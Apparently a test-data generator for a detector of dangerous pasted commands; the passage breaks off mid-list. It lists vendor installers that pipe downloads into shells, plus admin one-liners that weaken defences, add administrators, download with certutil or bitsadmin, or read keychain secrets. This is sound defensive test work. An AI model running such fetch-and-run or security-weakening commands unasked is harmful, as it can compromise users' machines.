"""Writes tests/data/cases/fpsweep15.jsonl: ordinary texts people copy from pages that are not
the tool's own (another project's README, a vendor's docs, a Q&A answer, a security write-up, a
help-desk mail) and paste into a terminal, PowerShell, the Run box, Explorer's address bar or a
browser's console, written here from general knowledge of such pages (no blind set, lure
collection or other detector's fixtures read), each technique cleared beside the look-alikes
that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_fpsweep15.py

Deterministic. Real vendors' documentation hosts stand for the pages real commands come from;
invented hosts are reserved names (*.test, *.example, *.invalid, documentation addresses),
phone numbers are in 555 blocks. Each line is {id, text, expect, technique, platform, source,
target}. The kinds written: installers quoted by another project's README, a blog or a list;
vendors' and Q&A pages' admin one-liners (PowerShell, Linux, macOS); browser-console snippets;
write-ups quoting lures; help-desk mails and order confirmations with numbers; OAuth/OIDC
documentation; Run-box and Explorer entries people type; config, logs, CI, Dockerfiles, crontab.
Those still flagged in their own context are in LEFT (with why), not in the file.

Cleared here, by technique (each beside the look-alikes that must stay flagged or blocked):

- `download-saved-to-temp`: a download saved to %TEMP% or another user folder
  (`Invoke-WebRequest … -OutFile $env:TEMP/x.msi`) starts nothing; PG-WIN-START-FROM-TEMP read
  the saving as a start. Starting what was saved (Start-Process, &, start, msiexec, mshta,
  powershell -f, Add-AppxPackage, a fake check's tail) is still read, and blocks from a page.
- `run-box-network-check`: ping, tracert and pathping with one computer and the switches that
  only say how often, how long or how far (runbox.yaml `pages`: whoever wrote them, as `ping
  <computer>` already was); shutdown's dash switches typed (`tools`). A second command, a share,
  a path, a copy of the program elsewhere, a switch twice, nslookup: still commands.
- `defanged-prose-write-up`: a write-up's sentences naming a lure's command as words with every
  address defanged and no backticks, where the target is unknown or nothing runs: a report (as
  backticked write-ups already were). A live address, a network path, a command line after the
  sentences, or the Run box keep their weight.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("fpsweep15.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
CONSOLE = "browser_console"
UNKNOWN = "unknown"
OTHER = "other"

# -- (a) installers quoted in OTHER projects' READMEs and docs ------------------------------------

# (page quoting it, command): a project's README telling its users to install a tool first
QUOTED_INSTALLERS = [
    (
        "https://github.com/tauri-apps/tauri",
        "curl --proto '=https' --tlsv1.2 https://sh.rustup.rs -sSf | sh",
    ),
    (
        "https://github.com/helix-editor/helix/blob/master/docs/install.md",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    ),
    (
        "https://docs.pola.rs/user-guide/installation/",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    ),
    (
        "https://github.com/quillmere/ledgerline#development",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
    ),
    (
        "https://github.com/quillmere/ledgerline#development",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ),
    (
        "https://docs.marimo.io/getting_started/installation/",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/notes-app/blob/main/CONTRIBUTING.md",
        "curl -fsSL https://bun.sh/install | bash",
    ),
    (
        "https://github.com/harrowfield/notes-app/blob/main/CONTRIBUTING.md",
        'powershell -c "irm bun.sh/install.ps1 | iex"',
    ),
    ("https://elysiajs.com/quick-start.html", "curl -fsSL https://bun.sh/install | bash"),
    (
        "https://github.com/vercel/next.js/blob/canary/contributing/core/developing.md",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
    ),
    (
        "https://github.com/quillmere/web-client",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
    ),
    ("https://fresh.deno.dev/docs/getting-started", "curl -fsSL https://deno.land/install.sh | sh"),
    ("https://fresh.deno.dev/docs/getting-started", "irm https://deno.land/install.ps1 | iex"),
    (
        "https://github.com/harrowfield/monorepo-template",
        "curl -fsSL https://get.pnpm.io/install.sh | sh -",
    ),
    (
        "https://github.com/harrowfield/monorepo-template",
        "iwr https://get.pnpm.io/install.ps1 -useb | iex",
    ),
    (
        "https://github.com/neovim/neovim/blob/master/BUILD.md",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://www.jetbrains.com/help/idea/installation-guide.html",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://github.com/quillmere/dotfiles-kit",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    ),
    (
        "https://github.com/romkatv/powerlevel10k#oh-my-zsh",
        'sh -c "$(wget -O- https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    ),
    (
        "https://github.com/harrowfield/win-dev-setup",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\n"
        "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression",
    ),
    (
        "https://github.com/harrowfield/win-dev-setup",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::"
        "SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object "
        "System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ),
    ("https://github.com/quillmere/terminal-theme", "curl -sS https://starship.rs/install.sh | sh"),
    (
        "https://docs.gitlab.com/runner/install/docker.html",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh",
    ),
    ("https://github.com/harrowfield/homelab", "curl -sfL https://get.k3s.io | sh -"),
    (
        "https://github.com/harrowfield/homelab",
        "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3\n"
        "chmod 700 get_helm.sh\n./get_helm.sh",
    ),
    (
        "https://github.com/quillmere/api-server#setup",
        "curl -sSL https://install.python-poetry.org | python3 -",
    ),
    (
        "https://github.com/quillmere/api-server#setup",
        "(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -",
    ),
    ("https://github.com/harrowfield/llm-notes", "curl -fsSL https://ollama.com/install.sh | sh"),
    (
        "https://github.com/harrowfield/homelab#vpn",
        "curl -fsSL https://tailscale.com/install.sh | sh",
    ),
    (
        "https://github.com/quillmere/shell-tips",
        "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh",
    ),
    ("https://spring.io/guides/gs/spring-boot", 'curl -s "https://get.sdkman.io" | bash'),
    ("https://github.com/quillmere/toolchain", "curl https://mise.run | sh"),
    ("https://github.com/harrowfield/js-lib#contributing", "curl https://get.volta.sh | bash"),
    (
        "https://github.com/harrowfield/js-lib#contributing",
        "curl -fsSL https://fnm.vercel.app/install | bash",
    ),
    ("https://github.com/quillmere/edge-app", "curl -L https://fly.io/install.sh | sh"),
    ("https://github.com/quillmere/edge-app", "iwr https://fly.io/install.ps1 -useb | iex"),
    (
        "https://github.com/harrowfield/nix-config",
        "sh <(curl -L https://nixos.org/nix/install) --daemon",
    ),
    (
        "https://github.com/harrowfield/nix-config",
        "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install",
    ),
    (
        "https://github.com/quillmere/dotnet-sample",
        "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0",
    ),
    ("https://github.com/quillmere/geo-stack", "curl -fsSL https://pixi.sh/install.sh | bash"),
    (
        "https://github.com/quillmere/geo-stack",
        'powershell -ExecutionPolicy ByPass -c "irm -useb https://pixi.sh/install.ps1 | iex"',
    ),
    (
        "https://github.com/harrowfield/cli-history",
        "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
    ),
    (
        "https://github.com/harrowfield/k8s-lab",
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl"',
    ),
    (
        "https://github.com/harrowfield/k8s-lab",
        "curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.24.0/kind-linux-amd64\nchmod +x ./kind\n"
        "sudo mv ./kind /usr/local/bin/kind",
    ),
    (
        "https://github.com/quillmere/infra",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\n'
        "unzip awscliv2.zip\nsudo ./aws/install",
    ),
    (
        "https://github.com/quillmere/infra",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    ),
    ("https://github.com/quillmere/infra", "curl https://sdk.cloud.google.com | bash"),
    ("https://github.com/harrowfield/agent-demo", "curl -fsSL https://claude.ai/install.sh | bash"),
    ("https://github.com/harrowfield/agent-demo", "npm install -g @anthropic-ai/claude-code"),
    (
        "https://github.com/harrowfield/wasm-demo",
        "curl https://rustwasm.github.io/wasm-pack/installer/init.sh -sSf | sh",
    ),
    ("https://github.com/quillmere/spa", "npm install -g pnpm@latest-10"),
    (
        "https://github.com/quillmere/spa",
        "corepack enable && corepack prepare pnpm@latest --activate",
    ),
    ("https://github.com/harrowfield/go-service", "go install github.com/air-verse/air@latest"),
    ("https://github.com/harrowfield/py-tool", "pipx install poetry && pipx ensurepath"),
    ("https://github.com/harrowfield/py-tool", "uv tool install ruff"),
    (
        "https://github.com/harrowfield/ci-tools",
        "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0",
    ),
    (
        "https://github.com/harrowfield/ci-tools",
        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "https://github.com/harrowfield/ci-tools",
        "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin v0.56.2",
    ),
    (
        "https://github.com/quillmere/rust-cli",
        "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash",
    ),
    (
        "https://github.com/quillmere/rust-cli",
        "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin",
    ),
    ("https://github.com/quillmere/win-tools", "winget install --id Git.Git -e --source winget"),
    ("https://github.com/quillmere/win-tools", "winget install -e --id Microsoft.PowerShell"),
    (
        "https://github.com/quillmere/win-tools",
        "scoop bucket add extras\nscoop install extras/vscode",
    ),
    ("https://github.com/quillmere/win-tools", "choco install -y nodejs-lts python git"),
    ("https://github.com/harrowfield/mac-setup", "brew install --cask visual-studio-code iterm2"),
    ("https://github.com/harrowfield/mac-setup", "xcode-select --install"),
    (
        "https://github.com/harrowfield/mac-setup",
        "softwareupdate --install-rosetta --agree-to-license",
    ),
]

# the same quoted installers pasted with no page known (a chat, a mail, typed)
BARE_INSTALLERS = [
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    "curl -fsSL https://bun.sh/install | bash",
    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
    "curl -fsSL https://deno.land/install.sh | sh",
    "irm https://get.scoop.sh | iex",
    "curl -fsSL https://get.pnpm.io/install.sh | sh -",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    "curl -sSL https://install.python-poetry.org | python3 -",
]


# harder: less-known tools' installers quoted by another page (an awesome-list, a blog, a guide)
OTHER_PAGE_INSTALLERS = [
    ("https://github.com/harrowfield/awesome-cli#python", "curl https://pyenv.run | bash"),
    (
        "https://github.com/harrowfield/awesome-cli#python",
        "curl -fsSL https://raw.githubusercontent.com/pyenv/pyenv-installer/master/bin/pyenv-installer | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#python",
        "curl -sSf https://rye.astral.sh/get | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#js",
        "curl -fsSL https://raw.githubusercontent.com/tj/n/master/bin/n | bash -s install lts",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#ruby",
        "curl -sSL https://get.rvm.io | bash -s stable",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#haskell",
        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#haskell",
        "curl -sSL https://get.haskellstack.org/ | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#lean",
        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#julia",
        "curl -fsSL https://install.julialang.org | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#wasm",
        "curl https://wasmtime.dev/install.sh -sSf | bash",
    ),
    ("https://github.com/harrowfield/awesome-cli#wasm", "curl https://get.wasmer.io -sSfL | sh"),
    (
        "https://github.com/harrowfield/awesome-cli#solidity",
        "curl -L https://foundry.paradigm.xyz | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#devenv",
        "curl -fsSL https://get.jetify.com/devbox | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#devenv",
        "curl -fsSL https://code-server.dev/install.sh | sh",
    ),
    ("https://github.com/harrowfield/awesome-cli#db", "curl https://install.duckdb.org | sh"),
    (
        "https://github.com/harrowfield/awesome-cli#db",
        "curl -sSfL https://get.tur.so/install.sh | bash",
    ),
    ("https://github.com/harrowfield/awesome-cli#cloud", "curl -fsSL https://get.pulumi.com | sh"),
    ("https://github.com/harrowfield/awesome-cli#cloud", "curl -sL https://firebase.tools | bash"),
    ("https://github.com/harrowfield/awesome-cli#cloud", "bash <(curl -fsSL cli.new)"),
    (
        "https://github.com/harrowfield/awesome-cli#cloud",
        "curl -fsSL https://railway.com/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#git",
        "curl -s https://packagecloud.io/install/repositories/github/git-lfs/script.deb.sh | sudo bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#ci",
        'curl -L "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh" | sudo bash',
    ),
    (
        "https://github.com/harrowfield/awesome-cli#compilers",
        'sudo bash -c "$(wget -O - https://apt.llvm.org/llvm.sh)"',
    ),
    (
        "https://github.com/harrowfield/awesome-cli#homelab",
        "curl -sSL https://install.pi-hole.net | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#homelab",
        "curl -fsSL https://get.casaos.io | sudo bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#homelab",
        "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#ai",
        "curl -fsSL https://opencode.ai/install | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#ai",
        "curl https://cursor.com/install -fsS | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#browsers",
        "curl -fsS https://dl.brave.com/install.sh | sh",
    ),
    ("https://github.com/harrowfield/awesome-cli#tools", "curl -sS https://webi.sh/gh | sh"),
    (
        "https://github.com/harrowfield/awesome-cli#tools",
        "curl -fsSL https://moonrepo.dev/install/proto.sh | bash",
    ),
    (
        "https://github.com/harrowfield/awesome-cli#tools",
        "curl -LsSf https://github.com/astral-sh/ruff/releases/latest/download/ruff-installer.sh | sh",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#shell",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://ohmyposh.dev/install.ps1'))",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#tweaks",
        "irm https://christitus.com/win | iex",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#tweaks",
        "iwr -useb https://christitus.com/win | iex",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#spotify",
        "iwr -useb https://raw.githubusercontent.com/spicetify/cli/main/install.ps1 | iex",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#ai",
        "irm https://claude.ai/install.ps1 | iex",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#python",
        'powershell -ExecutionPolicy ByPass -c "irm https://rye.astral.sh/get.ps1 | iex"',
    ),
    (
        "https://github.com/harrowfield/awesome-windows#pkg",
        "Invoke-Expression (New-Object System.Net.WebClient).DownloadString('https://get.scoop.sh')",
    ),
    (
        "https://github.com/harrowfield/awesome-windows#pkg",
        'iex "& {$(irm get.scoop.sh)} -RunAsAdmin"',
    ),
    (
        "https://github.com/harrowfield/awesome-windows#dotnet",
        "&([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) -Channel 8.0",
    ),
    (
        "https://www.hanselman.com/blog/my-ultimate-powershell-prompt-with-oh-my-posh-and-the-windows-terminal",
        "winget install JanDeDobbeleer.OhMyPosh -s winget",
    ),
    (
        "https://dev.to/harrowfield/setting-up-wsl-for-rust",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nsource $HOME/.cargo/env",
    ),
    (
        "https://medium.com/@harrowfield/a-modern-python-toolchain",
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv python install 3.13",
    ),
    (
        "https://www.freecodecamp.org/news/how-to-install-node-js-on-ubuntu/",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash\nsource ~/.bashrc\nnvm install --lts",
    ),
]

HARD_ADMIN = [
    (
        "https://learn.microsoft.com/en-us/windows/dev-drive/",
        'Add-MpPreference -ExclusionPath "D:\\DevDrive"',
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/remote/remote-desktop-services/clients/remote-desktop-allow-access",
        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/enable-psremoting",
        "Enable-PSRemoting -Force",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/winrm/installation-and-configuration-for-windows-remote-management",
        "winrm quickconfig",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/invoke-command",
        "Invoke-Command -ComputerName Server01, Server02 -ScriptBlock { Get-Service WinRM }",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-localgroup",
        "net localgroup administrators HARROWFIELD\\helpdesk-admins /add",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/takeown",
        "takeown /f C:\\OldProfile /r /d y",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
        "wevtutil qe System /c:20 /rd:true /f:text",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/vssadmin-list-shadows",
        "vssadmin list shadows",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/bcdedit",
        "bcdedit /enum",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/bitstransfer/start-bitstransfer",
        "Start-BitsTransfer -Source https://download.sysinternals.com/files/SysinternalsSuite.zip -Destination C:\\Tools\\",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/",
        "Invoke-WebRequest https://download.sysinternals.com/files/ProcessMonitor.zip -OutFile $env:USERPROFILE\\Downloads\\ProcessMonitor.zip; Expand-Archive $env:USERPROFILE\\Downloads\\ProcessMonitor.zip -DestinationPath C:\\Tools\\Procmon",
        "windows",
    ),
    (
        "https://superuser.com/questions/25538/how-to-download-files-from-command-line-in-windows-like-wget-or-curl",
        "Invoke-WebRequest -Uri https://www.python.org/ftp/python/3.13.0/python-3.13.0-amd64.exe -OutFile $env:TEMP\\python-3.13.0-amd64.exe",
        "windows",
    ),
    (
        "https://superuser.com/questions/25538/how-to-download-files-from-command-line-in-windows-like-wget-or-curl",
        "curl.exe -L -o %USERPROFILE%\\Downloads\\vlc.exe https://get.videolan.org/vlc/3.0.21/win64/vlc-3.0.21-win64.exe",
        "windows",
    ),
    (
        "https://superuser.com/questions/1620052/how-to-silently-install-an-msi",
        'Invoke-WebRequest -Uri "https://dl.google.com/chrome/install/googlechromestandaloneenterprise64.msi" -OutFile "$env:TEMP\\chrome.msi"; Start-Process msiexec.exe -ArgumentList "/i `"$env:TEMP\\chrome.msi`" /qn" -Wait',
        "windows",
    ),
    (
        "https://superuser.com/questions/1620052/how-to-silently-install-an-msi",
        'Invoke-WebRequest -Uri "https://www.7-zip.org/a/7z2408-x64.msi" -OutFile "C:\\Temp\\7z2408-x64.msi"\nmsiexec /i "C:\\Temp\\7z2408-x64.msi" /qn /norestart',
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -urlcache -split -f https://download.sysinternals.com/files/PSTools.zip PSTools.zip",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/bits/bitsadmin-tool",
        "bitsadmin /transfer myDownloadJob /download /priority normal https://download.sysinternals.com/files/Autoruns.zip C:\\Temp\\Autoruns.zip",
        "windows",
    ),
    (
        "https://superuser.com/questions/tagged/powershell",
        "powershell -ExecutionPolicy Bypass -File .\\Install-DevTools.ps1",
        "windows",
    ),
    (
        "https://github.com/harrowfield/win-dev-setup",
        "Get-Content $env:USERPROFILE\\.ssh\\id_ed25519.pub | Set-Clipboard",
        "windows",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/adding-a-new-ssh-key-to-your-github-account",
        "clip < ~/.ssh/id_ed25519.pub",
        "windows",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/adding-a-new-ssh-key-to-your-github-account",
        "pbcopy < ~/.ssh/id_ed25519.pub",
        "macos",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/adding-a-new-ssh-key-to-your-github-account",
        "cat ~/.ssh/id_ed25519.pub",
        "linux",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/cli-configure-files.html",
        "cat ~/.aws/config",
        "linux",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/cli-configure-files.html",
        "aws configure list --profile prod",
        "linux",
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        'security find-generic-password -s "harrowfield-deploy" -w',
        "macos",
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        'osascript -e \'display notification "Build finished" with title "CI"\'',
        "macos",
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        'osascript -e \'tell application "Finder" to set desktop picture to POSIX file "/Users/me/Pictures/wall.jpg"\'',
        "macos",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        'curl "https://awscli.amazonaws.com/AWSCLIV2.pkg" -o "AWSCLIV2.pkg"\nsudo installer -pkg AWSCLIV2.pkg -target /',
        "macos",
    ),
    (
        "https://github.com/harrowfield/mac-setup",
        "curl -L -o ~/Downloads/Firefox.dmg 'https://download.mozilla.org/?product=firefox-latest&os=osx&lang=en-US' && hdiutil attach ~/Downloads/Firefox.dmg",
        "macos",
    ),
    (
        "https://github.com/quillmere/menubar-app/releases",
        "sudo xattr -rd com.apple.quarantine /Applications/Menubar.app",
        "macos",
    ),
    (
        "https://support.apple.com/guide/mac-help/",
        "sudo launchctl kickstart -k system/com.apple.audio.coreaudiod",
        "macos",
    ),
    ("https://ngrok.com/docs/getting-started/", "ngrok http 3000", "any"),
    (
        "https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/do-more-with-tunnels/trycloudflare/",
        "cloudflared tunnel --url http://localhost:8080",
        "any",
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 8000 --bind 127.0.0.1",
        "any",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/",
        "kubectl run -it --rm debug --image=busybox:1.36 --restart=Never -- sh",
        "linux",
    ),
    (
        "https://api.slack.com/messaging/webhooks",
        "curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!\"}' https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "any",
    ),
    (
        "https://discord.com/developers/docs/resources/webhook",
        "curl -H 'Content-Type: application/json' -d '{\"content\": \"deploy finished\"}' https://discord.com/api/webhooks/123456789012345678/abcDEF_ghiJKL",
        "any",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/ssh",
        "ssh -L 5432:localhost:5432 deploy@bastion.harrowfield.example -N",
        "linux",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/networking",
        "sudo tcpdump -i any -n port 53",
        "linux",
    ),
    ("https://nmap.org/book/man-examples.html", "nmap -sV -p 22,80,443 198.51.100.0/28", "linux"),
    ("https://unix.stackexchange.com/questions/tagged/cron", "crontab -l | grep -v '^#'", "linux"),
    ("https://unix.stackexchange.com/questions/tagged/bash", "env | grep -i proxy", "linux"),
    (
        "https://unix.stackexchange.com/questions/tagged/bash",
        "history | grep ssh | tail -20",
        "linux",
    ),
    (
        "https://docs.docker.com/engine/install/linux-postinstall/",
        "sudo usermod -aG docker $USER && newgrp docker",
        "linux",
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -h db.internal.harrowfield.example -U app -Fc app > app-$(date +%F).dump",
        "linux",
    ),
    (
        "https://stackoverflow.com/questions/tagged/git",
        "git log --oneline --graph --all | head -40",
        "any",
    ),
    (
        "https://stackoverflow.com/questions/tagged/git",
        "git reset --hard origin/main && git clean -fdx",
        "any",
    ),
    (
        "https://stackoverflow.com/questions/tagged/npm",
        "rm -rf node_modules package-lock.json && npm cache clean --force && npm install",
        "any",
    ),
]

HARD_RUNBOX = [
    "control /name Microsoft.CredentialManager",
    "rundll32.exe keymgr.dll,KRShowKeyMgr",
    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    "shutdown /r /t 0",
    "shutdown -s -t 3600",
    "wf.msc",
    "mstsc",
    "netplwiz",
    "optionalfeatures",
    "outlook.exe /resetnavpane",
    "outlook /cleanviews",
    "%windir%\\system32\\cmd.exe",
    "sysdm.cpl",
    "psr.exe",
    "ms-availablenetworks:",
    "windowsdefender:",
    "https://portal.harrowfield.example/helpdesk",
    "\\\\printsrv01",
    "cmd /c net use",
    "cmd /k ping 192.0.2.1 -t",
    "powershell -NoExit -Command Get-Service",
    "notepad %USERPROFILE%\\.gitconfig",
    "explorer %appdata%\\Code\\User",
    "winword /safe",
    "ping harrowfield.example -t",
    "tracert 198.51.100.1",
    "nslookup harrowfield.example",
    "mstsc /v:PC-0142",
    "mstsc /v:rds.harrowfield.example:3390 /f",
    "control mlcfg32.cpl",
    "control keyboard",
    "control admintools",
    "explorer shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
]

# -- (b) admin and ops one-liners from vendors' docs and Q&A pages ---------------------------------

LEARN = "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.diagnostics/get-winevent"
LEARN_WIN = "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
SUPERUSER = "https://superuser.com/questions/1310123/how-to-check-event-log-from-command-line"
SERVERFAULT = "https://serverfault.com/questions/870311/scheduled-task-list-powershell"
SO = "https://stackoverflow.com/questions/4037939/powershell-says-execution-of-scripts-is-disabled-on-this-system"
TEAMS_DOC = "https://learn.microsoft.com/en-us/microsoftteams/msi-deployment"

PS_ADMIN = [
    (
        LEARN,
        "Get-WinEvent -LogName System -MaxEvents 50 | Format-Table TimeCreated, Id, Message -AutoSize",
    ),
    (
        LEARN,
        "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4625; StartTime=(Get-Date).AddDays(-1)}",
    ),
    (
        LEARN,
        "Get-WinEvent -ListLog * | Where-Object {$_.RecordCount -gt 0} | Sort-Object RecordCount -Descending",
    ),
    (
        SUPERUSER,
        "Get-WinEvent -LogName Application -MaxEvents 20 | Where-Object LevelDisplayName -eq 'Error'",
    ),
    (SO, "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process"),
    (SO, "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force"),
    (SO, "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser"),
    (SO, "Get-ExecutionPolicy -List"),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/install",
        "winget install --id Microsoft.PowerToys --source winget",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        "winget upgrade --all --silent",
    ),
    ("https://scoop.sh/", "scoop install git 7zip"),
    ("https://docs.chocolatey.org/en-us/choco/commands/upgrade", "choco upgrade all -y"),
    (
        TEAMS_DOC,
        'Invoke-WebRequest -Uri "https://statics.teams.cdn.office.net/production-windows-x64/enterprise/webview2/lkg/MSTeams-x64.msix" -OutFile "$env:TEMP\\MSTeams-x64.msix"',
    ),
    (
        "https://www.7-zip.org/faq.html",
        'Invoke-WebRequest -Uri "https://www.7-zip.org/a/7z2408-x64.msi" -OutFile "C:\\Temp\\7z2408-x64.msi"\n'
        'msiexec /i "C:\\Temp\\7z2408-x64.msi" /qn /norestart',
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
    ),
    (
